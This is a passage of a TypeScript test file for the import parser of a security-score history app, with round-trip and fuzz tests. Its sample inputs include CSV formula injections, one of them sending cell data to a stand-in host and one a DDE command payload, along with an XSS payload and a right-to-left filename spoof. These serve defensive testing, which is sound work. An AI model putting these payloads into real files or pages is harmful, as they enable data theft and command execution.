  '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  "'=already quoted",
  '+1 after the GPO',
  '-3: a new CVE',
  '@mention the team',
  'score < 400 & &amp; &lt; <3',
  'x<y and a<b, not tags',
  '<- moved to the new GPO',
  '日本語のメモ — café — 🚀👩🏽‍💻 — مرحبا',
  '"',
  ',',
];

describe('round trips', () => {
  const HOUR = 3_600_000;
  const runs: Run[] = NOTES_THAT_MUST_SURVIVE.map((_, index) => ({
    tenantId: index % 2 ? TENANT : OTHER,
    firstSeen: Date.parse(T1) - index * DAY,
    lastSeen: Date.parse(T1) - index * DAY + (index % 3) * HOUR,
    score: 300 + index / 7,
  }));
  runs.push({ tenantId: TENANT, firstSeen: Date.parse(T2), lastSeen: Date.parse(T2), score: 1e-7 }, { tenantId: OTHER, firstSeen: Date.parse(T2), lastSeen: Date.parse(T2), score: 33.491554051195706 });
  // Half the notes at their run's start (in its CSV cell), half in the middle of it (a line of their own).
  const notes: Note[] = NOTES_THAT_MUST_SURVIVE.map((text, index) => {
    const time = runs[index]!.firstSeen + (index % 2) * 60_000;
    return { tenantId: runs[index]!.tenantId, time, text, edited: time + index * DAY };
  });

  it('gives back exactly the same runs and notes from JSON, edit times included', () => {
    const result = parsed(parse('h.json', toJson({ tenants: [{ tenantId: TENANT, label: 'contoso.example' }], runs, notes }, NOW)));
    expect(result.invalid).toEqual([]);
    expect(result.runs.slice().sort(byRunKey)).toStrictEqual(runs.slice().sort(byRunKey));
    expect(result.notes.slice().sort(byNoteKey)).toStrictEqual(notes.slice().sort(byNoteKey));
  });

  it('gives back exactly the same runs, and every note at its time, from CSV; a note’s edit time becomes its own time', () => {
    const result = parsed(parse('h.csv', toCsv({ runs, notes }, new Map([[TENANT, '=evil label, "quoted"']]))));
    expect(result.invalid).toEqual([]);
    expect(result.runs.slice().sort(byRunKey)).toStrictEqual(runs.slice().sort(byRunKey));
    expect(result.notes.slice().sort(byNoteKey)).toStrictEqual(notes.map((n) => ({ ...n, edited: n.time })).sort(byNoteKey));
  });

  it('gives back readings of version 1 files as runs of one reading each when no two share a score in a row', () => {
    const readings: V1Reading[] = runs.map(({ tenantId, firstSeen, score }, index) => ({ tenantId, time: firstSeen, score, note: NOTES_THAT_MUST_SURVIVE[index] }));
    for (const text of [v1Csv(readings), v1Json([], readings, NOW)]) {
      const result = parsed(parse(text.startsWith('{') ? 'h.json' : 'h.csv', text));
      expect(result.invalid).toEqual([]);
      expect(result.runs.map((r) => [r.tenantId, r.firstSeen, r.lastSeen, r.score])).toEqual(
        readings.map((r) => [r.tenantId, r.time, r.time, r.score]).sort((x, y) => (x[1] as number) - (y[1] as number) || String(x[0]).localeCompare(String(y[0]))),
      );
      expect(textsOf(result).sort()).toEqual(NOTES_THAT_MUST_SURVIVE.slice().sort());
    }
  });

  it('reads 100,000 runs from CSV and from JSON, and 100,000 readings of a version 1 CSV', () => {
    const many: Run[] = Array.from({ length: 100_000 }, (_, index) => ({ tenantId: TENANT, firstSeen: NOW - index * 60_000, lastSeen: NOW - index * 60_000 + 30_000, score: 300 + (index % 50) }));
    const someNotes: Note[] = many.filter((_, index) => index % 10 === 0).map((run) => ({ tenantId: TENANT, time: run.firstSeen, text: 'a, "note"', edited: NOW }));
    expect(parsed(parse('h.csv', toCsv({ runs: many, notes: someNotes }))).runs).toHaveLength(100_000);
    expect(parsed(parse('h.json', toJson({ tenants: [], runs: many, notes: someNotes }, NOW))).notes).toHaveLength(10_000);
    const readings = many.map(({ tenantId, firstSeen, score }) => ({ tenantId, time: firstSeen, score }));
    expect(parsed(parse('h.csv', v1Csv(readings))).readingCount).toBe(100_000);
    // A large file on a busy machine: room enough, never a measure of speed (that is the benchmark's).
  }, 60_000);
});

/**
 * What every imported run and note satisfies. Stated here on its own, not through the reading rules the
 * parser uses, so that the fuzz tests hold the parser to it rather than to itself.
 */
function isValidRun(value: unknown, now: number): value is Run {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, firstSeen, lastSeen, score } = value as Partial<Record<keyof Run, unknown>>;
  return (
    isValidTenantId(tenantId) &&
    isValidTime(firstSeen, now) &&
    isValidTime(lastSeen, now) &&
    (lastSeen as number) >= (firstSeen as number) &&
    Number.isFinite(score) &&
    (score as number) >= 0 &&
    (score as number) <= MAX_SCORE &&
    Object.keys(value).every((key) => ['tenantId', 'firstSeen', 'lastSeen', 'score'].includes(key))
  );
}

function isValidNoteRecord(value: unknown, now: number): value is Note {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, time, text, edited } = value as Partial<Record<keyof Note, unknown>>;
  return (
    isValidTenantId(tenantId) &&
    isValidTime(time, now) &&
    isValidTime(edited, now) &&
    isValidNoteText(text) &&
    Object.keys(value).every((key) => ['tenantId', 'time', 'text', 'edited'].includes(key))
  );
}

function isValidSeriesRun(value: unknown, now: number): boolean {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, series, firstSeen, lastSeen, score } = value as Record<string, unknown>;
  return (
    isValidTenantId(tenantId) &&
    isValidSeriesId(series) &&
    isValidTime(firstSeen, now) &&
    isValidTime(lastSeen, now) &&
    (lastSeen as number) >= (firstSeen as number) &&
    isNumberFrom(score, 0, 100) &&
    hasOnlyKeys(value, ['tenantId', 'series', 'firstSeen', 'lastSeen', 'score'])
  );
}

function isValidSeriesName(value: unknown, now: number): boolean {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, series, time, name } = value as Record<string, unknown>;
  return (
    isValidTenantId(tenantId) &&
    isValidSeriesId(series) &&
    series !== 'exposure' &&
    isValidTime(time, now) &&
    isPlainText(name, 0, 200) &&
    hasOnlyKeys(value, ['tenantId', 'series', 'time', 'name'])
  );
}

function isValidChange(value: unknown, now: number): boolean {
  if (typeof value !== 'object' || value === null) return false;
  const change = value as Record<string, unknown>;
  const key = isValidTenantId(change.tenantId) && isPlainText(change.id, 1, 200) && isValidTime(change.time, now);
  if (change.removed !== undefined) return key && change.removed === true && hasOnlyKeys(value, ['tenantId', 'id', 'time', 'removed']);
  const labels = ['name', 'category', 'subCategory', 'remediationType'];
  return (
    key &&
    isNumberFrom(change.configScoreImpact, 0, Infinity) &&
    isNumberFrom(change.exposureImpact, 0, Infinity) &&
    isCount(change.exposedMachines) &&
    isCount(change.totalMachines) &&
    isPlainText(change.status, 0, 200) &&
    labels.every((label) => change[label] === undefined || isPlainText(change[label], 0, label === 'name' ? 1000 : 200)) &&
    hasOnlyKeys(value, ['tenantId', 'id', 'time', 'configScoreImpact', 'exposureImpact', 'exposedMachines', 'totalMachines', 'status', ...labels])
  );
}

function isValidRead(value: unknown, now: number): boolean {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, time, count } = value as Record<string, unknown>;
  return isValidTenantId(tenantId) && isValidTime(time, now) && isCount(count) && hasOnlyKeys(value, ['tenantId', 'time', 'count']);
}

/** exposure, group-id:<1–100 characters> or group-name:<1–200 characters>, none of them a control character. */
function isValidSeriesId(series: unknown): boolean {
  if (series === 'exposure') return true;
  const match = typeof series === 'string' ? /^group-(id|name):(.*)$/s.exec(series) : null;
  return match !== null && isPlainText(match[2], 1, match[1] === 'id' ? 100 : 200);
}

/** Text with no control character (line breaks included), lone surrogate or direction override. */
function isPlainText(text: unknown, minLength: number, maxLength: number): boolean {
  return typeof text === 'string' && text.length >= minLength && text.length <= maxLength && !/\p{Cc}|\p{Cs}|[\u202a-\u202e\u2066-\u2069]/u.test(text);
}

function isNumberFrom(value: unknown, min: number, max: number): boolean {
  return typeof value === 'number' && Number.isFinite(value) && !Object.is(value, -0) && value >= min && value <= max;
}

function isCount(value: unknown): boolean {
  return Number.isSafeInteger(value) && (value as number) >= 0 && !Object.is(value, -0);
}

function hasOnlyKeys(value: object, keys: readonly string[]): boolean {
  return Object.keys(value).every((key) => keys.includes(key));
}

function expectUniqueKeys(keys: readonly string[]): void {
  expect(new Set(keys).size).toBe(keys.length);
}

function isValidTenantId(tenantId: unknown): boolean {
  // A GUID in lower case, as Entra ID writes tenant IDs and the importer keeps them.
  return typeof tenantId === 'string' && /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/.test(tenantId);
}

function isValidTime(time: unknown, now: number): boolean {
  return Number.isSafeInteger(time) && (time as number) >= EARLIEST_READING_TIME && (time as number) <= now + FUTURE_TOLERANCE_MS;
}

function isValidNoteText(note: unknown): boolean {
  return (
    typeof note === 'string' &&
    note !== '' &&
    note === note.trim() &&
    note.length <= MAX_NOTE_LENGTH &&
    // Control characters but \n, lone surrogates, bidi overrides.
    !/[^\P{Cc}\n]|\p{Cs}|[\u202a-\u202e\u2066-\u2069]/u.test(note) &&
    // No tags or comments.
    !/<[a-zA-Z/!?][^<>]*>/.test(note)
  );
}

describe('isValidRun and isValidNoteRecord, the statements the fuzz tests hold the parser to', () => {
  const run: Run = { tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T2), score: 300 };
  const note: Note = { tenantId: TENANT, time: Date.parse(T1), text: 'ok', edited: Date.parse(T2) };

  it('accepts a valid run and refuses each kind of invalid one', () => {
    expect(isValidRun(run, NOW)).toBe(true);
    for (const bad of [
      null,
      'run',
      { ...run, tenantId: TENANT.toUpperCase() },
      { ...run, tenantId: 'contoso' },
      { ...run, firstSeen: EARLIEST_READING_TIME - 1 },
      { ...run, lastSeen: NOW + FUTURE_TOLERANCE_MS + 1 },
      { ...run, firstSeen: Date.parse(T1) + 0.5 },
      { ...run, lastSeen: run.firstSeen - 1 },
      { ...run, score: -1 },
      { ...run, score: Infinity },
      { ...run, score: NaN },
      { ...run, score: MAX_SCORE + 1 },
      { ...run, score: '300' },
      { ...run, note: 'a note on a run' },
    ]) {
      expect(isValidRun(bad, NOW), JSON.stringify(bad)).toBe(false);
    }
  });

  it('accepts a valid note and refuses each kind of invalid one', () => {
    expect(isValidNoteRecord(note, NOW)).toBe(true);
    for (const bad of [
      null,
      { ...note, tenantId: 'contoso' },
      { ...note, time: EARLIEST_READING_TIME - 1 },
      { ...note, edited: undefined },
      { ...note, edited: NOW + FUTURE_TOLERANCE_MS + 1 },
      { ...note, text: ' untrimmed' },
      { ...note, text: '' },
      { ...note, text: 'tab\there' },
      { ...note, text: 'x'.repeat(281) },
      { ...note, text: '<b>x</b>' },
      { ...note, text: 5 },
      { ...note, score: 1 },
    ]) {
      expect(isValidNoteRecord(bad, NOW), JSON.stringify(bad)).toBe(false);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Properties

const TENANTS = [TENANT, OTHER, '00000000-0000-4000-8000-000000000000'];

/** Characters that stress quoting, the formula guard and Unicode, mixed with anything at all. */
const noteCharacter = fc.oneof(
  fc.constantFrom(',', '"', '\n', '\r', '\t', '=', '+', '-', '@', "'", '<', '>', '&', ' ', '\u00a0', '\u202e', '\u0000', 'é', '🚀'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
);

const validNote = fc
  .string({ unit: noteCharacter, maxLength: 40 })
  .map((text) => checkNote(text))
  .filter((checked): checked is Ok<string> => checked.ok && checked.value !== undefined)
  .map((checked) => checked.value);

const validTenantId = fc.oneof(fc.constantFrom(...TENANTS), fc.uuid());
const validTime = fc.integer({ min: EARLIEST_READING_TIME, max: NOW + FUTURE_TOLERANCE_MS });
// Few scores, so that runs of one score meet and readings of version 1 fold.
const validScore = fc.oneof(
  fc.integer({ min: 0, max: 2000 }),
  fc.double({ min: 0, max: MAX_SCORE, noNaN: true }),
  fc.double({ min: Number.MIN_VALUE, max: 1e-6, noNaN: true }),
  fc.constantFrom(0, 300, 300, 301.5, MAX_SCORE, 33.491554051195706),
);

// fc.record makes objects without a prototype; toStrictEqual would notice, hence the copies.
const validReading: fc.Arbitrary<V1Reading> = fc
  .record({ tenantId: validTenantId, time: validTime, score: validScore, note: validNote }, { requiredKeys: ['tenantId', 'time', 'score'] })
  .map((reading) => ({ ...reading }));
const validReadings = fc.uniqueArray(validReading, { selector: (r) => `${r.tenantId} ${r.time}`, maxLength: 20 });

/** Runs as a history keeps them: those of one tenant and score joined. */
const validRuns: fc.Arbitrary<Run[]> = fc
  .array(
    fc
      .record({ tenantId: fc.constantFrom(...TENANTS), firstSeen: validTime, length: fc.nat(5 * DAY), score: validScore })
      .map(({ tenantId, firstSeen, length, score }) => ({ tenantId, firstSeen, lastSeen: Math.min(firstSeen + length, NOW), score }))
      .filter((run) => run.lastSeen >= run.firstSeen),
    { maxLength: 20 },
  )
  .map((runs) => joinRuns(runs));
const validNotes: fc.Arbitrary<Note[]> = fc.uniqueArray(
  fc.record({ tenantId: fc.constantFrom(...TENANTS), time: validTime, text: validNote, edited: validTime }).map((note) => ({ ...note })),
  { selector: (n) => `${n.tenantId} ${n.time}`, maxLength: 10 },
);

/** Things an attacker or a broken tool might put into a file, the targeted ones most often. */
const nastyText = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '1e400',
      '-1e400',
      '99999999999999999999999999',
      '100000.5',
      'Infinity',
      'NaN',
      '0x1F',
      '-5',
      '9999-12-31T23:59:59Z',
      '2014-12-31T23:59:59Z',
      '+275760-09-13T00:00:00.000Z',
      '=HYPERLINK("http://evil.example","click")',
      "'=1+1",
      '<img src=x onerror=alert(1)>',
      'note\u0000with NUL',
      'tab\there',
      'evil\u202etxt.exe',
      'broken \ud800 text',
      ' '.repeat(3),
      'x'.repeat(400),
      TENANT.toUpperCase(),
      'not-a-guid',
      '"',
      '""',
      ',',
      '\n',
      '\r\n',
      '\r',
      '\ufeff',
      '{',
      '}',
      '[',
      ']',
      ':',
      'null',
      '"__proto__"',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 6 }) },
);

/** Cell values that are nearly right: each breaks one rule the parser must hold. */
const nearlyValidCell = fc.constantFrom(
  '2014-12-31T23:59:59Z',
  '9999-12-31T23:59:59Z',
  '1e400',
  '100000.5',
  TENANT.toUpperCase(),
  'y'.repeat(MAX_NOTE_LENGTH + 1),
  'note\u0000with NUL',
  'evil\u202etxt.exe',
  '=HYPERLINK("http://evil.example","click")',
  '<img src=x onerror=alert(1)>',
  '100.5',
  'group-id:',
  'group-name:a\u0000b',
  `group-name:${'n'.repeat(201)}`,
  'exposure',
  'device score',
);

type Mutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'insert'; at: number; text: string }
  | { kind: 'replace'; at: number; text: string }
  | { kind: 'delete'; at: number; length: number }
  | { kind: 'duplicate-line'; at: number }
  | { kind: 'replace-cell'; at: number; cell: number; text: string };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), text: nastyText }),
  fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), text: nastyText }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 30 }) }),
  fc.record({ kind: fc.constant('duplicate-line' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('replace-cell' as const), at: fc.nat(), cell: fc.nat({ max: 7 }), text: nastyText }),
  fc.record({ kind: fc.constant('replace-cell' as const), at: fc.nat(), cell: fc.nat({ max: 7 }), text: nearlyValidCell }),
);

function mutate(text: string, change: Mutation): string {
  const at = change.at % (text.length + 1);
  switch (change.kind) {
    case 'truncate':
      return text.slice(0, at);
    case 'insert':
      return text.slice(0, at) + change.text + text.slice(at);
    case 'replace':
      return text.slice(0, at) + change.text + text.slice(at + 1);
    case 'delete':
      return text.slice(0, at) + text.slice(at + change.length);
    case 'duplicate-line': {
      const lines = text.split('\n');
      const index = change.at % lines.length;
      lines.splice(index, 0, lines[index] ?? '');
      return lines.join('\n');
    }
    case 'replace-cell': {
      // Crude on purpose: splits on commas and line ends without regard for quotes, as a careless tool would.
      const lines = text.split('\n');
      const index = change.at % lines.length;
      const cells = (lines[index] ?? '').split(',');
      cells[change.cell % cells.length] = change.text;
      lines[index] = cells.join(',');
      return lines.join('\n');
    }
  }
}

/** What every answer of the parser must satisfy, whatever it was given. */
function expectSoundResult(answer: Result<ParsedImport, string>): void {
  if (!answer.ok) {
    expect(typeof answer.error).toBe('string');
    expect(answer.error.length).toBeGreaterThan(0);
    return;
  }
  const result = answer.value;
  for (const run of result.runs) expect(isValidRun(run, NOW), JSON.stringify(run)).toBe(true);
  // Runs of one tenant and score are joined: none overlaps another.
  expect(joinRuns(result.runs)).toHaveLength(result.runs.length);
  const noteKeys = new Set<string>();
  for (const note of result.notes) {
    expect(isValidNoteRecord(note, NOW), JSON.stringify(note)).toBe(true);
    const key = `${note.tenantId} ${note.time}`;
    expect(noteKeys.has(key)).toBe(false);
    noteKeys.add(key);
  }
  for (const run of result.seriesRuns) expect(isValidSeriesRun(run, NOW), JSON.stringify(run)).toBe(true);
  expect(joinRuns(result.seriesRuns)).toHaveLength(result.seriesRuns.length);
  for (const name of result.seriesNames) expect(isValidSeriesName(name, NOW), JSON.stringify(name)).toBe(true);
  for (const change of result.recommendationChanges) expect(isValidChange(change, NOW), JSON.stringify(change)).toBe(true);
  for (const read of result.recommendationReads) expect(isValidRead(read, NOW), JSON.stringify(read)).toBe(true);
  expectUniqueKeys(result.seriesNames.map((name) => `${name.tenantId} ${name.series} ${name.time}`));
  expectUniqueKeys(result.recommendationChanges.map((change) => `${change.tenantId} ${change.id} ${change.time}`));
  expectUniqueKeys(result.recommendationReads.map((read) => `${read.tenantId} ${read.time}`));
  if (result.version < 3) expect([result.seriesRuns, result.seriesNames, result.recommendationChanges, result.recommendationReads]).toEqual([[], [], [], []]);
  if (result.format === 'csv') expect([result.recommendationChanges, result.recommendationReads]).toEqual([[], []]);
  for (const row of result.invalid) {
    expect(['line', 'reading', 'run', 'note', 'series-run', 'series-name', 'recommendation-change', 'recommendation-read', 'goal', 'alert-rule', 'alert']).toContain(row.kind);
    expect(Number.isSafeInteger(row.line) && row.line >= 1).toBe(true);
    expect(row.reason.length).toBeGreaterThan(0);
  }
  if (result.version === 1) expect(result.readingCount).toBeGreaterThanOrEqual(result.runs.length);
  else expect(result.readingCount).toBeUndefined();
  if (result.version < 3) expect([result.goals, result.alertRules, result.alertLog]).toEqual([[], [], []]);
  const records = [...result.runs, ...result.notes, ...result.seriesRuns, ...result.seriesNames, ...result.recommendationChanges, ...result.recommendationReads, ...result.goals, ...result.alertRules, ...result.alertLog];
  expect(new Set(result.tenantIds)).toEqual(new Set(records.map((r) => r.tenantId)));
  expect(result.tenantIds).toHaveLength(new Set(result.tenantIds).size);
}

describe('properties', () => {
  it('JSON exports of any runs and notes import as exactly the same runs and notes', () => {
    fc.assert(
      fc.property(validRuns, validNotes, (runs, notes) => {
        const result = parsed(parse('h.json', toJson({ tenants: [], runs, notes }, NOW)));
        expect(result.invalid).toEqual([]);
        expect(result.runs.slice().sort(byRunKey)).toStrictEqual(runs.slice().sort(byRunKey));
        expect(result.notes.slice().sort(byNoteKey)).toStrictEqual(notes.slice().sort(byNoteKey));
      }),
      { numRuns: 300 },
    );
  });

  it('CSV exports of any runs and notes import as the same runs, and the same notes at the same times', () => {
    fc.assert(
      fc.property(validRuns, validNotes, (runs, notes) => {
        const result = parsed(parse('h.csv', toCsv({ runs, notes })));
        expect(result.invalid).toEqual([]);
        expect(result.runs.slice().sort(byRunKey)).toStrictEqual(runs.slice().sort(byRunKey));
        expect(result.notes.slice().sort(byNoteKey)).toStrictEqual(notes.map((n) => ({ ...n, edited: n.time })).sort(byNoteKey));
      }),
      { numRuns: 300 },
    );
  });

  it('version 1 files of any readings import as those readings folded, every note at its reading', () => {
    fc.assert(
      fc.property(validReadings, (readings) => {
        const folded = foldReadings(readings.map(({ tenantId, time, score }) => ({ tenantId, time, score })));
        const notes = readings.flatMap(({ tenantId, time, note }) => (note === undefined ? [] : [{ tenantId, time, text: note, edited: time }]));
        for (const result of [parse('h.csv', v1Csv(readings)), parse('h.json', v1Json([], readings, NOW))]) {
          const imported = parsed(result);
          expect(imported.invalid).toEqual([]);
          expect(imported.readingCount).toBe(readings.length);
          expect(imported.runs).toStrictEqual(folded);
          expect(imported.notes.slice().sort(byNoteKey)).toStrictEqual(notes.sort(byNoteKey));
        }
      }),
      { numRuns: 300 },
    );
  });

  it('mutated CSV exports, of any version, never make the parser throw or let an invalid record through', () => {
    const others = historyArbitraries(NOW);
    fc.assert(
      fc.property(
        validRuns,
        validNotes,
        validReadings,
        others.seriesRuns,
        others.seriesNames,
        fc.array(mutation, { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        (runs, notes, readings, seriesRuns, seriesNames, mutations, withLabels) => {
        const labels = withLabels ? new Map([[TENANT, '=cmd|" /C calc"!A0']]) : undefined;
        for (const file of [toCsv({ runs, notes, seriesRuns, seriesNames }, labels), v2Csv(runs, notes, labels), v1Csv(readings, labels)]) {
          expectSoundResult(parseImportFile('h.csv', mutations.reduce(mutate, file), { now: NOW, defaultTenantId: TENANT }));
        }
        },
      ),
      { numRuns: 400 },
    );
  }, 60_000);

  it('mutated JSON exports, of any version, never make the parser throw or let an invalid record through', () => {
    const others = historyArbitraries(NOW);
    const jsonValue = fc.oneof(nastyText, nearlyValidCell, fc.jsonValue(), fc.constantFrom(1e308, -0, -1, 1.5, 2 ** 53, MAX_SCORE + 0.5, 100.5, 2e-323, '2099-01-01T00:00:00Z', true, false));
    const field = fc.constantFrom(
      ...['tenantId', 'time', 'score', 'note', 'firstSeen', 'lastSeen', 'text', 'edited', 'extra', 'series', 'name', 'id', 'count', 'removed', 'status'],
      ...['configScoreImpact', 'exposureImpact', 'exposedMachines', 'totalMachines', 'category', 'subCategory', 'remediationType', '__proto__'],
    );
    const lists = ['readings', 'runs', 'notes', 'series', 'seriesNames', 'recommendationChanges', 'recommendationReads'];
    const fieldChange = fc.record({ list: fc.constantFrom(...lists), at: fc.nat(), field, value: jsonValue });
    fc.assert(
      fc.property(
        validRuns,
        validNotes,
        validReadings,
        fc.record({ seriesRuns: others.seriesRuns, seriesNames: others.seriesNames, recommendationChanges: others.recommendationChanges, recommendationReads: others.recommendationReads }),
        fc.array(fieldChange, { maxLength: 4 }),
        fc.array(mutation, { maxLength: 3 }),
        (runs, notes, readings, otherRecords, fieldChanges, mutations) => {
          for (const file of [toJson({ tenants: [], runs, notes, ...otherRecords }, NOW), v2Json([], runs, notes, NOW), v1Json([], readings, NOW)]) {
            const document = JSON.parse(file) as Record<string, Record<string, unknown>[] | undefined>;
            for (const change of fieldChanges) {
              const list = document[change.list] ?? [];
              const entry = list[change.at % Math.max(list.length, 1)];
              if (entry) entry[change.field] = change.value;
            }
            expectSoundResult(parse('h.json', mutations.reduce(mutate, JSON.stringify(document, null, 2))));
          }
        },
      ),
      { numRuns: 400 },
    );
  }, 60_000);

  it('arbitrary text never makes the parser throw', () => {
    const prefix = fc.constantFrom(
      '',
      '{',
      '[',
      '\uFEFF',
      `${HEADER}\r\n`,
      `${HEADER}\n${T1},300,`,
      `${HEADER_V2}\r\n`,
      `${HEADER_V2}\n${T1},${T2},300,`,
      '{"app":"Scoreline","format":"scoreline.history","version":1,"readings":[',
      '{"app":"Scoreline","format":"scoreline.history","version":2,"notes":[],"runs":[',
    );
    const body = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.string({ unit: 'binary-ascii' }));
    fc.assert(
      fc.property(fc.constantFrom('h.csv', 'h.json', 'h.txt', ''), prefix, body, (name, start, rest) => {
        expectSoundResult(parse(name, start + rest));
      }),
      { numRuns: 500 },
    );
  });
});

describe('tenant names in a JSON file', () => {
  it('keeps valid names and leaves out doubtful ones', () => {
    const json = toJson(
      {
        tenants: [
          { tenantId: TENANT, label: 'contoso.example' },
          { tenantId: OTHER, label: '<b>fabrikam</b>' },
        ],
        runs: [{ tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T1), score: 1 }],
        notes: [],
      },
      Date.parse(T2),
    );
    const result = parsed(parse('h.json', json));
    expect(result.tenantLabels).toEqual({ [TENANT]: 'contoso.example' });
    const v1 = v1Json([{ tenantId: OTHER, label: 'fabrikam.example' }], [{ tenantId: OTHER, time: Date.parse(T1), score: 1 }], Date.parse(T2));
    expect(parsed(parse('h.json', v1)).tenantLabels).toEqual({ [OTHER]: 'fabrikam.example' });
  });
});
